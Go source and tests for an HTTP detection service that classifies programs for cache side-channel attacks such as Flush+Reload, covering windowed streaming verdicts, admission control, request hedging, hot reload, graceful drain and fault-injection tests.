// the client's 400, and one bad target never ends the connection.

import (
	"net/http"
	"strings"
	"testing"
)

func postWindowStream(t *testing.T, url, body string) []Verdict {
	t.Helper()
	resp, err := http.Post(url, "application/x-ndjson", strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("status %d", resp.StatusCode)
	}
	return readNDJSON(t, resp.Body)
}

// TestWindowStream: an in-flight Flush+Reload flagged mid-trace over
// the wire, a benign target staying clean, and both summaries
// consistent with their per-window lines.
func TestWindowStream(t *testing.T) {
	_, ts := newTestServer(t, nil)
	body := `{"spec":"attack:FR-IAIK"}` + "\n" + `{"spec":"benign:crypto/aes-ttable/7"}` + "\n"
	verdicts := postWindowStream(t, ts.URL+"/v1/classify/stream?mode=window", body)

	byID := map[string][]Verdict{}
	for _, v := range verdicts {
		if v.Error != "" {
			t.Fatalf("verdict %s errored: %s", v.ID, v.Error)
		}
		byID[v.ID] = append(byID[v.ID], v)
	}
	if len(byID) != 2 {
		t.Fatalf("targets on the wire: %v", len(byID))
	}

	check := func(id string, wantDetected bool) *WireWindowSummary {
		t.Helper()
		lines := byID[id]
		if len(lines) < 2 {
			t.Fatalf("%s: only %d lines", id, len(lines))
		}
		sum := lines[len(lines)-1].Summary
		if sum == nil {
			t.Fatalf("%s: last line is not the summary", id)
		}
		windows := 0
		var firstHitEnd uint64
		for _, v := range lines[:len(lines)-1] {
			if v.Window == nil {
				t.Fatalf("%s: mid-stream line without window annotation: %+v", id, v)
			}
			if v.Summary != nil {
				t.Fatalf("%s: summary before the last line", id)
			}
			windows++
			malicious := v.Predicted != "" && v.Predicted != "Benign"
			if malicious && firstHitEnd == 0 {
				firstHitEnd = v.Window.End
			}
		}
		if windows != sum.Windows {
			t.Fatalf("%s: %d window lines, summary says %d", id, windows, sum.Windows)
		}
		if sum.Detected != wantDetected {
			t.Fatalf("%s: detected = %v, want %v", id, sum.Detected, wantDetected)
		}
		if wantDetected {
			if sum.Hits == 0 || firstHitEnd == 0 {
				t.Fatalf("%s: detected without malicious window lines", id)
			}
			if sum.DetectionCycle != firstHitEnd {
				t.Fatalf("%s: detection cycle %d, first malicious window ends at %d", id, sum.DetectionCycle, firstHitEnd)
			}
			if sum.LatencyToDetection == 0 {
				t.Fatalf("%s: no latency-to-detection on a detected run", id)
			}
		} else if sum.Hits != 0 {
			t.Fatalf("%s: benign run scored %d hits", id, sum.Hits)
		}
		return sum
	}
	sum := check("attack:FR-IAIK", true)
	if fam := byID["attack:FR-IAIK"][len(byID["attack:FR-IAIK"])-1].Predicted; fam != "FR-F" {
		t.Fatalf("aggregate verdict %s, want FR-F (summary %+v)", fam, sum)
	}
	check("benign:crypto/aes-ttable/7", false)

	// Sequential processing: every FR line precedes every benign line.
	lastFR, firstBenign := -1, len(verdicts)
	for i, v := range verdicts {
		if v.ID == "attack:FR-IAIK" && i > lastFR {
			lastFR = i
		}
		if v.ID == "benign:crypto/aes-ttable/7" && i < firstBenign {
			firstBenign = i
		}
	}
	if lastFR > firstBenign {
		t.Fatal("targets interleaved on a sequential window stream")
	}
}

// TestWindowStreamBadParams: unusable geometry and unknown modes are
// the request's error, rejected before any target runs.
func TestWindowStreamBadParams(t *testing.T) {
	_, ts := newTestServer(t, nil)
	for _, q := range []string{
		"?mode=window&window=abc",
		"?mode=window&stride=-1",
		"?mode=window&window=100&stride=200",
		"?mode=window&quiet-gap=1e9",
		"?mode=bogus",
	} {
		resp, err := http.Post(ts.URL+"/v1/classify/stream"+q, "application/x-ndjson", strings.NewReader(`{"spec":"attack:FR-IAIK"}`))
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusBadRequest {
			t.Errorf("%s: status %d, want 400", q, resp.StatusCode)
		}
	}
}

// TestWindowStreamFaultIsolation: an unresolvable target gets an error
// line and the stream keeps going — the next target still runs its
// full windowed detection.
func TestWindowStreamFaultIsolation(t *testing.T) {
	_, ts := newTestServer(t, nil)
	body := `{"spec":"attack:NOPE"}` + "\n" + `{"spec":"attack:FR-IAIK"}` + "\n"
	verdicts := postWindowStream(t, ts.URL+"/v1/classify/stream?mode=window", body)
	if len(verdicts) < 3 {
		t.Fatalf("only %d lines", len(verdicts))
	}
	if verdicts[0].ID != "attack:NOPE" || verdicts[0].Error == "" {
		t.Fatalf("first line is not the bad target's error: %+v", verdicts[0])
	}
	last := verdicts[len(verdicts)-1]
	if last.ID != "attack:FR-IAIK" || last.Summary == nil || !last.Summary.Detected {
		t.Fatalf("target after the bad one did not complete: %+v", last)
	}
}
