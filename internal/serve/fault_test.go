package serve

import (
	"errors"
	"io"
	"net/http"
	"strings"
	"testing"
	"time"

	"repro/internal/detect"
	"repro/internal/faultinject"
)

// TestAdmitFailpoint proves serve.admit converts an injected admission
// failure into the shed path: 429 with a Retry-After, counted.
func TestAdmitFailpoint(t *testing.T) {
	srv, ts := newTestServer(t, nil)
	faultinject.Enable(faultinject.ServeAdmit, faultinject.Error(errors.New("injected admission failure")))
	t.Cleanup(faultinject.Reset)
	resp := postJSON(t, ts.URL+"/v1/classify", classifyRequest{Target: &TargetSpec{Spec: "attack:FR-IAIK"}})
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusTooManyRequests {
		t.Fatalf("status %d, want 429", resp.StatusCode)
	}
	if resp.Header.Get("Retry-After") == "" {
		t.Error("429 without Retry-After header")
	}
	if n := srv.tel.Snapshot().Counters["serve_rejected"]; n == 0 {
		t.Error("serve_rejected not counted")
	}
	faultinject.Reset()
	resp = postJSON(t, ts.URL+"/v1/classify", classifyRequest{Target: &TargetSpec{Spec: "attack:FR-IAIK"}})
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("after reset: status %d, want 200", resp.StatusCode)
	}
}

// TestReloadFailpoint proves a failed reload is a clean 500: the old
// repository keeps serving, its version does not move.
func TestReloadFailpoint(t *testing.T) {
	entries := corpus(t)
	srv, ts := newTestServer(t, func(c *Config) {
		c.Reload = func(string) (*detect.Repository, error) {
			r := &detect.Repository{}
			r.Replace(entries)
			return r, nil
		}
	})
	before := srv.det.Repo.Version()
	faultinject.Enable(faultinject.ServeReload, faultinject.Error(errors.New("injected reload failure")))
	t.Cleanup(faultinject.Reset)
	resp := postJSON(t, ts.URL+"/reload", reloadRequest{})
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusInternalServerError {
		t.Fatalf("status %d, want 500", resp.StatusCode)
	}
	if got := srv.det.Repo.Version(); got != before {
		t.Errorf("failed reload moved the version: %d -> %d", before, got)
	}
	// The old contents still serve.
	cresp := postJSON(t, ts.URL+"/v1/classify", classifyRequest{Target: &TargetSpec{Spec: "attack:FR-IAIK"}})
	cr := decodeBody[classifyResponse](t, cresp)
	if cresp.StatusCode != http.StatusOK || cr.Verdict == nil || cr.Verdict.Error != "" {
		t.Errorf("classification broken after failed reload: %d %+v", cresp.StatusCode, cr.Verdict)
	}
	faultinject.Reset()
	resp = postJSON(t, ts.URL+"/reload", reloadRequest{})
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("reload after reset: status %d, want 200", resp.StatusCode)
	}
}

// TestHedgeBeatsSlowShard proves request hedging: with one shard's
// first scan stalled far beyond the hedge delay, the hedged second
// attempt resolves the request long before the stall ends, and its
// verdict is the real one.
func TestHedgeBeatsSlowShard(t *testing.T) {
	spec := TargetSpec{Spec: "attack:FR-IAIK"}
	want := canon(t, expectVerdict(t, spec, 0))
	srv, ts := newTestServer(t, func(c *Config) {
		c.Detector.Shards = 2
		c.Hedge = 150 * time.Millisecond
	})
	const stall = 6 * time.Second
	// Only the first scan on shard 1 stalls: the primary attempt hangs,
	// the hedge's own shard-1 scan passes.
	faultinject.Enable(faultinject.ShardScan,
		faultinject.Match("1", faultinject.OnCall(1, faultinject.Sleep(stall))))
	t.Cleanup(faultinject.Reset)

	start := time.Now()
	resp := postJSON(t, ts.URL+"/v1/classify", classifyRequest{Target: &spec})
	elapsed := time.Since(start)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("status %d", resp.StatusCode)
	}
	cr := decodeBody[classifyResponse](t, resp)
	if cr.Verdict == nil {
		t.Fatal("no verdict")
	}
	if got := canon(t, *cr.Verdict); got != want {
		t.Errorf("hedged verdict diverged\n got %s\nwant %s", got, want)
	}
	if elapsed >= stall {
		t.Errorf("request took %v — the hedge never rescued it from the %v stall", elapsed, stall)
	}
	snap := srv.tel.Snapshot()
	if snap.Counters["serve_hedges"] == 0 {
		t.Error("serve_hedges not counted")
	}
	if snap.Counters["serve_hedge_wins"] == 0 {
		t.Error("serve_hedge_wins not counted")
	}
}

// TestDeadShardPartialVerdict proves degradation end to end: with one
// in-process shard persistently dead, the service still answers 200
// with a verdict marked partial, built from the surviving shards.
func TestDeadShardPartialVerdict(t *testing.T) {
	_, ts := newTestServer(t, func(c *Config) {
		c.Detector.Shards = 2
	})
	faultinject.Enable(faultinject.ShardScan,
		faultinject.Match("1", faultinject.Error(errors.New("shard down"))))
	t.Cleanup(faultinject.Reset)

	resp := postJSON(t, ts.URL+"/v1/classify", classifyRequest{Target: &TargetSpec{Spec: "attack:FR-IAIK"}})
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("status %d, want 200 (degraded, not failed)", resp.StatusCode)
	}
	cr := decodeBody[classifyResponse](t, resp)
	if cr.Verdict == nil {
		t.Fatal("no verdict")
	}
	if !cr.Verdict.Partial {
		t.Errorf("verdict not marked partial: %+v", cr.Verdict)
	}
	if cr.Verdict.Error != "" {
		t.Errorf("partial verdict carries an error: %q", cr.Verdict.Error)
	}
	if cr.Verdict.Predicted == "" {
		t.Error("partial verdict has no prediction")
	}
}

// TestStreamSurvivesInjectedPanic proves per-target fault isolation on
// the streaming path: a panic injected into one target's scan becomes
// that line's error verdict, and the following line still classifies.
func TestStreamSurvivesInjectedPanic(t *testing.T) {
	_, ts := newTestServer(t, nil)
	faultinject.Enable(faultinject.ScanWorker,
		faultinject.OnCall(1, faultinject.Panic("injected scan panic")))
	t.Cleanup(faultinject.Reset)

	body := `{"spec":"attack:FR-IAIK"}` + "\n" + `{"spec":"benign:crypto/aes-ttable/7"}` + "\n"
	resp, err := http.Post(ts.URL+"/v1/classify/stream", "application/x-ndjson", strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	verdicts := readNDJSON(t, resp.Body)
	if len(verdicts) != 2 {
		t.Fatalf("got %d verdict lines, want 2", len(verdicts))
	}
	if verdicts[0].Error == "" {
		t.Errorf("panicked target did not fail: %+v", verdicts[0])
	}
	if verdicts[1].Error != "" {
		t.Errorf("panic leaked into the next target: %+v", verdicts[1])
	}
}
