package serve

import (
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strconv"
	"time"

	"repro/internal/exec"
	"repro/internal/panicsafe"
	"repro/internal/telemetry"
	"repro/internal/window"
)

// windowParams parses the mode=window query knobs (window, stride,
// quiet-gap, all in cycles). Absent parameters select the package
// defaults; junk, negative or gap-leaving geometry is the client's
// error and maps to a 400.
func windowParams(q url.Values) (window.Config, error) {
	var cfg window.Config
	for _, p := range []struct {
		name string
		dst  *uint64
	}{
		{"window", &cfg.Size},
		{"stride", &cfg.Stride},
		{"quiet-gap", &cfg.QuietGap},
	} {
		s := q.Get(p.name)
		if s == "" {
			continue
		}
		v, err := strconv.ParseUint(s, 10, 64)
		if err != nil {
			return cfg, fmt.Errorf("bad %s %q: want a nonnegative integer cycle count", p.name, s)
		}
		*p.dst = v
	}
	if err := cfg.Validate(); err != nil {
		return cfg, err
	}
	return cfg, nil
}

// handleWindowStream is POST /v1/classify/stream?mode=window: each
// NDJSON TargetSpec runs on a fresh recording machine and replays
// through the online sliding-window detector (internal/window). One
// verdict line streams out per window as it closes — carrying the
// Window annotation — followed by the target's summary line, then the
// next target starts. Targets run sequentially: the ordered per-window
// verdict stream is the product, and interleaving targets would
// scramble it. Per-target fault isolation holds: a resolution, run or
// replay failure becomes that target's error line, never the
// connection's. See docs/WINDOWING.md.
func (s *Server) handleWindowStream(w http.ResponseWriter, r *http.Request, cfg window.Config) {
	if !s.enter() {
		drainingReply(w)
		return
	}
	defer s.inflight.Done()
	release, retryAfter, err := s.gate.admit(r.Header.Get(s.cfg.KeyHeader), 1)
	if err != nil {
		s.shed(w, retryAfter)
		return
	}
	defer release()
	s.tel.Inc(telemetry.ServeRequests)
	start := s.tel.Now()
	defer func() { s.tel.ObserveSince(telemetry.StageServeRequest, start) }()

	// Full duplex for the same reason as the classify stream: verdict
	// lines flow while the client may still be writing targets.
	rc := http.NewResponseController(w)
	_ = rc.EnableFullDuplex()
	w.Header().Set("Content-Type", "application/x-ndjson")
	w.WriteHeader(http.StatusOK)
	flusher, _ := w.(http.Flusher)
	if flusher != nil {
		flusher.Flush()
	}
	enc := json.NewEncoder(w)
	emit := func(v Verdict) {
		_ = enc.Encode(v)
		if flusher != nil {
			flusher.Flush()
		}
	}

	// Unblock a parked body read when the server drains, exactly as the
	// classify stream does.
	ctx := r.Context()
	done := make(chan struct{})
	defer close(done)
	go func() {
		select {
		case <-s.drainCh:
			_ = rc.SetReadDeadline(time.Now())
		case <-ctx.Done():
		case <-done:
		}
	}()

	dec := json.NewDecoder(http.MaxBytesReader(w, r.Body, maxRequestBody))
	for pos := 0; ; pos++ {
		if s.isDraining() || ctx.Err() != nil {
			return
		}
		var ts TargetSpec
		if err := dec.Decode(&ts); err != nil {
			if errors.Is(err, io.EOF) || s.isDraining() || isTimeout(err) {
				return
			}
			// The byte stream is no longer trustworthy past a JSON error.
			emit(Verdict{ID: "line", Error: "bad target line: " + err.Error()})
			return
		}
		id := ts.label(pos)
		prog, victim, rerr := ts.resolve()
		if rerr != nil {
			emit(Verdict{ID: id, Error: "resolve: " + rerr.Error()})
			continue
		}
		var out window.Outcome
		werr := panicsafe.DoNotify(func() error {
			var err error
			out, err = window.Watch(ctx, s.det, prog, victim, exec.DefaultConfig(), cfg, func(v window.Verdict) {
				emit(windowVerdict(id, v))
			})
			return err
		}, func(*panicsafe.PanicError) { s.tel.Inc(telemetry.PanicsRecovered) })
		if werr != nil {
			emit(Verdict{ID: id, Error: "watch: " + werr.Error()})
			continue
		}
		emit(windowSummary(id, out))
	}
}

// windowVerdict converts one per-window verdict to the wire.
func windowVerdict(id string, v window.Verdict) Verdict {
	wv := verdictFor(id, v.Result, nil, v.Err)
	wv.ModelLen = v.ModelLen
	if wv.Best != nil && wv.Best.Name == "" {
		// Quiet and gated windows never matched anything; an empty best
		// match is noise on the wire.
		wv.Best = nil
	}
	wv.Window = &WireWindow{
		Index:    v.Index,
		Start:    v.Start,
		End:      v.End,
		Events:   v.Events,
		ModelLen: v.ModelLen,
		Reason:   v.Reason,
	}
	return wv
}

// windowSummary converts a completed run's outcome to the target's
// final wire line.
func windowSummary(id string, out window.Outcome) Verdict {
	wv := verdictFor(id, out.Final, nil, nil)
	if wv.Best != nil && wv.Best.Name == "" {
		wv.Best = nil
	}
	sum := &WireWindowSummary{
		Windows:     out.Windows,
		Hits:        out.Hits,
		Quiet:       out.Quiet,
		Errors:      out.Errors,
		Detected:    out.Detected,
		FinalWindow: out.FinalWindow,
	}
	if lat, ok := out.LatencyToDetection(); ok {
		sum.DetectionCycle = out.DetectionCycle
		sum.LatencyToDetection = lat
	}
	wv.Summary = sum
	return wv
}
