// Package serve is the detection-as-a-service front end: a long-lived
// HTTP/JSON server that accepts classification requests from many
// concurrent clients and fronts whatever scan backend its detector is
// configured with — one engine, in-process shards, or a remote
// `scaguard shard-serve` fleet. It is the deployment shape the
// ROADMAP's "millions of users" story asks for: callers stop owning a
// process and start sharing one.
//
// Per connection the server reuses the streaming pipeline
// (internal/stream): bounded queues, per-target deadlines and
// per-target fault isolation, so one malformed program in a batch or a
// stream becomes one error verdict, never a failed request. Across
// connections it adds what a multi-tenant front end needs and a single
// pipeline cannot provide:
//
//   - Admission control: a global concurrency cap plus a per-API-key
//     token bucket. Requests that cannot be admitted are shed
//     immediately with 429 and a Retry-After hint — overload degrades
//     to fast rejections, never to hangs or unbounded queues.
//   - Request hedging: a unary classification that outlives
//     Config.Hedge gets a parallel second attempt, and the first to
//     resolve wins — a slow shard delays one attempt, not the client.
//   - Zero-downtime hot reload: POST /reload swaps the repository's
//     contents atomically (detect.Repository.Replace). In-flight scans
//     keep their snapshot, the next classification sees the new
//     contents, and version-keyed verdict-cache entries invalidate
//     naturally.
//   - Graceful drain: Shutdown stops intake (new requests get 503,
//     /healthz flips to draining so load balancers route away),
//     flushes every in-flight request and stream, then returns. No
//     accepted request is ever dropped.
//
// Endpoints: POST /v1/classify (single + batch), POST
// /v1/classify/stream (NDJSON in/out), POST /reload, GET /healthz, GET
// /metrics (the telemetry snapshot, JSON or Prometheus). The wire
// format preserves scores exactly, so exact-mode verdicts served over
// HTTP are bit-identical to direct detect.Classify calls — enforced by
// this package's golden-corpus tests. See docs/SERVING.md for the
// operator guide.
package serve

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"sync"
	"time"

	"repro/internal/detect"
	"repro/internal/faultinject"
	"repro/internal/isa"
	"repro/internal/model"
	"repro/internal/panicsafe"
	"repro/internal/retry"
	"repro/internal/shard"
	"repro/internal/stream"
	"repro/internal/telemetry"
)

// DefaultMaxConcurrent is the global concurrency cap when Config
// leaves it unset: high enough for a healthy fleet's worth of
// concurrent clients, low enough to bound memory under a stampede.
const DefaultMaxConcurrent = 256

// DefaultKeyHeader is the request header admission control reads the
// client identity from.
const DefaultKeyHeader = "X-API-Key"

// maxRequestBody bounds a /v1/classify request body (32 MiB — far
// above any sane batch of inline programs, far below harm).
const maxRequestBody = 32 << 20

// Config tunes the detection server. Detector is required; the zero
// value of everything else is a working single-tenant default.
type Config struct {
	// Detector serves every classification. It must not be reconfigured
	// while the server runs; its repository may grow through Add and be
	// swapped through /reload.
	Detector *detect.Detector
	// MaxConcurrent caps admitted in-flight requests across all
	// clients; <= 0 selects DefaultMaxConcurrent. Excess requests are
	// shed with 429, never queued.
	MaxConcurrent int
	// RatePerKey, when > 0, is each API key's sustained admission rate
	// in targets/sec (a batch of n charges n tokens, clamped to the
	// burst). BurstPerKey is the bucket size; <= 0 selects
	// max(1, 2*RatePerKey).
	RatePerKey  float64
	BurstPerKey int
	// KeyHeader names the header carrying the client identity for
	// per-key limiting; empty selects DefaultKeyHeader. Absent headers
	// share the "" bucket.
	KeyHeader string
	// Stream tunes the per-connection pipeline for batch requests and
	// /v1/classify/stream connections (worker count, queue bound,
	// per-target deadline, retries). Ordered is forced on: responses
	// always align with request order.
	Stream stream.Config
	// Hedge, when > 0, launches a parallel second attempt for a unary
	// classification still unresolved after this long; the first
	// outcome wins and the loser is cancelled. Effective against slow
	// shards; note that an in-process Detector.ResultCache collapses
	// identical concurrent scans (singleflight), which makes the hedge
	// wait on the primary instead of racing it — hedge a remote shard
	// fleet, not a result-cached local engine.
	Hedge time.Duration
	// Retry re-runs a failed unary classification on transient errors
	// (the zero policy runs once). Batch and stream targets use
	// Stream.Retries; when that is zero it inherits this policy.
	Retry retry.Policy
	// Reload, when non-nil, supplies the repository contents for POST
	// /reload: it receives the request's optional path override and
	// returns the freshly loaded repository, whose entries replace the
	// serving repository's atomically. nil disables the endpoint (501).
	Reload func(path string) (*detect.Repository, error)
	// Telemetry instruments the server (serve_* counters, the
	// serve_request stage, the "serve" gauge source) and is served at
	// /metrics. Share it with the Detector to get one unified snapshot.
	// nil disables instrumentation; /metrics then serves empty
	// snapshots.
	Telemetry *telemetry.Collector
}

// Server is the detection service. Create with New, expose with
// Handler (any http.Server or httptest) or Serve (own listener), stop
// with Shutdown.
type Server struct {
	cfg  Config
	det  *detect.Detector
	tel  *telemetry.Collector
	gate *gate

	// drainMu orders the draining flag against in-flight accounting:
	// enter() may not admit a request after Shutdown decided to wait.
	drainMu  sync.Mutex
	draining bool
	inflight sync.WaitGroup
	drainCh  chan struct{}

	// reloadMu serializes /reload swaps (each is atomic either way; the
	// lock keeps responses' entry counts truthful).
	reloadMu sync.Mutex

	httpMu  sync.Mutex
	httpSrv *http.Server
}

// New builds a server from cfg. It panics on a nil Detector — there is
// nothing to serve.
func New(cfg Config) *Server {
	if cfg.Detector == nil {
		panic("serve: Config.Detector is required")
	}
	if cfg.KeyHeader == "" {
		cfg.KeyHeader = DefaultKeyHeader
	}
	s := &Server{
		cfg:     cfg,
		det:     cfg.Detector,
		tel:     cfg.Telemetry,
		gate:    newGate(cfg.MaxConcurrent, cfg.RatePerKey, cfg.BurstPerKey),
		drainCh: make(chan struct{}),
	}
	s.tel.RegisterGauges("serve", s.gaugeSnapshot)
	return s
}

// gaugeSnapshot is the "serve" gauge source: admitted in-flight
// requests, the cap, live rate-limit keys and the draining flag.
func (s *Server) gaugeSnapshot() map[string]uint64 {
	used, capacity := s.gate.inflight()
	var draining uint64
	s.drainMu.Lock()
	if s.draining {
		draining = 1
	}
	s.drainMu.Unlock()
	return map[string]uint64{
		"inflight":     uint64(used),
		"max_inflight": uint64(capacity),
		"keys":         uint64(s.gate.keys()),
		"draining":     draining,
	}
}

// Handler returns the service's HTTP handler.
func (s *Server) Handler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/v1/classify", s.handleClassify)
	mux.HandleFunc("/v1/classify/stream", s.handleClassifyStream)
	mux.HandleFunc("/reload", s.handleReload)
	mux.HandleFunc("/healthz", s.handleHealthz)
	mux.Handle("/metrics", telemetry.Handler(s.tel))
	return mux
}

// Serve binds addr (port 0 picks a free port) and serves until
// Shutdown. It returns the bound address immediately; serving happens
// on a background goroutine.
func (s *Server) Serve(addr string) (bound string, err error) {
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return "", fmt.Errorf("serve: listen %s: %w", addr, err)
	}
	srv := &http.Server{Handler: s.Handler()}
	s.httpMu.Lock()
	s.httpSrv = srv
	s.httpMu.Unlock()
	go func() { _ = srv.Serve(ln) }()
	return ln.Addr().String(), nil
}

// Shutdown drains the server: stop intake (new requests are rejected
// with 503 and /healthz reports draining), signal in-flight streaming
// connections to stop reading further targets, wait for every admitted
// request to finish, then close the listener. ctx bounds the wait; on
// expiry Shutdown returns the context's error with requests possibly
// still in flight (the caller is giving up, the server did not drop
// them). Safe to call without Serve (e.g. behind httptest) and more
// than once.
func (s *Server) Shutdown(ctx context.Context) error {
	s.drainMu.Lock()
	if !s.draining {
		s.draining = true
		close(s.drainCh)
	}
	s.drainMu.Unlock()

	done := make(chan struct{})
	go func() {
		s.inflight.Wait()
		close(done)
	}()
	select {
	case <-done:
	case <-ctx.Done():
		return ctx.Err()
	}
	s.httpMu.Lock()
	srv := s.httpSrv
	s.httpMu.Unlock()
	if srv != nil {
		return srv.Shutdown(ctx)
	}
	return nil
}

// enter admits a request into the in-flight account unless the server
// is draining. Every true return must be paired with s.inflight.Done().
func (s *Server) enter() bool {
	s.drainMu.Lock()
	defer s.drainMu.Unlock()
	if s.draining {
		return false
	}
	s.inflight.Add(1)
	return true
}

// writeJSON writes v with status.
func writeJSON(w http.ResponseWriter, status int, v any) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(status)
	_ = json.NewEncoder(w).Encode(v)
}

// writeError writes the error reply form.
func writeError(w http.ResponseWriter, status int, msg string) {
	writeJSON(w, status, errorResponse{Error: msg})
}

// shed writes the 429 overload reply with its Retry-After hint.
func (s *Server) shed(w http.ResponseWriter, retryAfter time.Duration) {
	s.tel.Inc(telemetry.ServeRejected)
	secs := retryAfterSeconds(retryAfter)
	w.Header().Set("Retry-After", fmt.Sprint(secs))
	writeJSON(w, http.StatusTooManyRequests, errorResponse{
		Error:             "overloaded: admission gate saturated",
		RetryAfterSeconds: secs,
	})
}

// drainingReply writes the 503 sent while shutting down.
func drainingReply(w http.ResponseWriter) {
	w.Header().Set("Retry-After", "1")
	writeJSON(w, http.StatusServiceUnavailable, errorResponse{
		Error:             "draining: server is shutting down",
		RetryAfterSeconds: 1,
	})
}

// handleClassify is POST /v1/classify: one target (unary reply) or a
// batch (array reply). Per-target failures become error verdicts; only
// a malformed request fails the call.
func (s *Server) handleClassify(w http.ResponseWriter, r *http.Request) {
	if r.Method != http.MethodPost {
		writeError(w, http.StatusMethodNotAllowed, "POST only")
		return
	}
	if !s.enter() {
		drainingReply(w)
		return
	}
	defer s.inflight.Done()

	var req classifyRequest
	body := http.MaxBytesReader(w, r.Body, maxRequestBody)
	if err := json.NewDecoder(body).Decode(&req); err != nil {
		writeError(w, http.StatusBadRequest, "bad classify request: "+err.Error())
		return
	}
	if req.Target != nil && len(req.Targets) > 0 {
		writeError(w, http.StatusBadRequest, "set target or targets, not both")
		return
	}
	targets := req.Targets
	if req.Target != nil {
		targets = []TargetSpec{*req.Target}
	}
	if len(targets) == 0 {
		writeError(w, http.StatusBadRequest, "no targets")
		return
	}

	release, retryAfter, err := s.gate.admit(r.Header.Get(s.cfg.KeyHeader), len(targets))
	if err != nil {
		s.shed(w, retryAfter)
		return
	}
	defer release()
	s.tel.Inc(telemetry.ServeRequests)
	start := s.tel.Now()
	defer func() { s.tel.ObserveSince(telemetry.StageServeRequest, start) }()

	if req.Target != nil {
		v := s.classifyOne(r.Context(), targets[0], 0)
		writeJSON(w, http.StatusOK, classifyResponse{Verdict: &v})
		return
	}
	writeJSON(w, http.StatusOK, classifyResponse{Verdicts: s.classifyBatch(r.Context(), targets)})
}

// classifyOne resolves and classifies one target with the unary
// extras: panic isolation, hedging and the serve-layer retry policy.
func (s *Server) classifyOne(ctx context.Context, t TargetSpec, pos int) Verdict {
	id := t.label(pos)
	prog, victim, err := t.resolve()
	if err != nil {
		return Verdict{ID: id, Error: "resolve: " + err.Error()}
	}
	var (
		res detect.Result
		m   *model.Model
	)
	rerr := s.cfg.Retry.Do(ctx, transientNotPartial,
		func(int, error) { s.tel.Inc(telemetry.ServeRetries) },
		func() error {
			res, m, err = s.hedged(ctx, prog, victim)
			return err
		})
	return verdictFor(id, res, m, rerr)
}

// transientNotPartial retries transient failures but accepts degraded
// partial results as final — a partial verdict is usable, and under a
// persistently dead shard retrying would only burn the budget to land
// on the same partial.
func transientNotPartial(err error) bool {
	var pe *shard.PartialError
	return retry.Transient(err) && !errors.As(err, &pe)
}

// hedged runs one classification, racing a delayed second attempt
// against the first when Config.Hedge is set. Whichever attempt
// resolves first wins; the loser's context is cancelled and its
// goroutine drains into the buffered channel.
func (s *Server) hedged(ctx context.Context, prog, victim *isa.Program) (detect.Result, *model.Model, error) {
	if s.cfg.Hedge <= 0 {
		return s.classifySafe(ctx, prog, victim)
	}
	type outcome struct {
		res   detect.Result
		m     *model.Model
		err   error
		hedge bool
	}
	hctx, cancel := context.WithCancel(ctx)
	defer cancel()
	ch := make(chan outcome, 2)
	run := func(hedge bool) {
		var o outcome
		o.hedge = hedge
		o.res, o.m, o.err = s.classifySafe(hctx, prog, victim)
		ch <- o
	}
	go run(false)
	timer := time.NewTimer(s.cfg.Hedge)
	defer timer.Stop()
	var o outcome
	select {
	case o = <-ch:
	case <-timer.C:
		s.tel.Inc(telemetry.ServeHedges)
		go run(true)
		o = <-ch
		if o.hedge {
			s.tel.Inc(telemetry.ServeHedgeWins)
		}
	}
	return o.res, o.m, o.err
}

// classifySafe is ClassifyCtx under panic isolation: a panic anywhere
// in one request's modeling or scanning becomes that request's error,
// never the process's crash.
func (s *Server) classifySafe(ctx context.Context, prog, victim *isa.Program) (detect.Result, *model.Model, error) {
	var (
		res detect.Result
		m   *model.Model
	)
	err := panicsafe.DoNotify(func() error {
		var err error
		res, m, err = s.det.ClassifyCtx(ctx, prog, victim)
		return err
	}, func(*panicsafe.PanicError) { s.tel.Inc(telemetry.PanicsRecovered) })
	return res, m, err
}

// streamConfig is the per-connection pipeline configuration: ordered
// emission always, the serve retry policy unless the stream one is
// set.
func (s *Server) streamConfig() stream.Config {
	cfg := s.cfg.Stream
	cfg.Ordered = true
	if cfg.Retries == (retry.Policy{}) {
		cfg.Retries = s.cfg.Retry
	}
	return cfg
}

// classifyBatch runs a batch through the streaming pipeline: bounded
// queues, per-target deadlines, per-target fault isolation, ordered
// results. Unresolvable specs get error verdicts without occupying the
// pipeline.
func (s *Server) classifyBatch(ctx context.Context, targets []TargetSpec) []Verdict {
	verdicts := make([]Verdict, len(targets))

	// Resolve up front so the producer goroutine shares nothing mutable
	// with the result loop: work[seq] maps the pipeline's acceptance
	// order back to request positions.
	type resolved struct {
		idx          int
		id           string
		prog, victim *isa.Program
	}
	work := make([]resolved, 0, len(targets))
	for i, t := range targets {
		id := t.label(i)
		prog, victim, err := t.resolve()
		if err != nil {
			verdicts[i] = Verdict{ID: id, Error: "resolve: " + err.Error()}
			continue
		}
		work = append(work, resolved{idx: i, id: id, prog: prog, victim: victim})
	}

	in := make(chan stream.Target)
	out := stream.Classify(ctx, s.det, in, s.streamConfig())
	go func() {
		defer close(in)
		for _, wk := range work {
			select {
			case in <- stream.Target{ID: wk.id, Program: wk.prog, Victim: wk.victim}:
			case <-ctx.Done():
				return
			}
		}
	}()
	for r := range out {
		verdicts[work[r.Seq].idx] = verdictFor(r.ID, r.Verdict, r.Model, r.Err)
	}
	// Work the producer never sent (cancellation mid-batch) fails with
	// the context's error; label() never yields an empty ID, so an
	// empty ID marks the unfilled slots.
	for _, wk := range work {
		if verdicts[wk.idx].ID == "" {
			v := Verdict{ID: wk.id, Error: "target was not classified"}
			if err := ctx.Err(); err != nil {
				v.Error = err.Error()
			}
			verdicts[wk.idx] = v
		}
	}
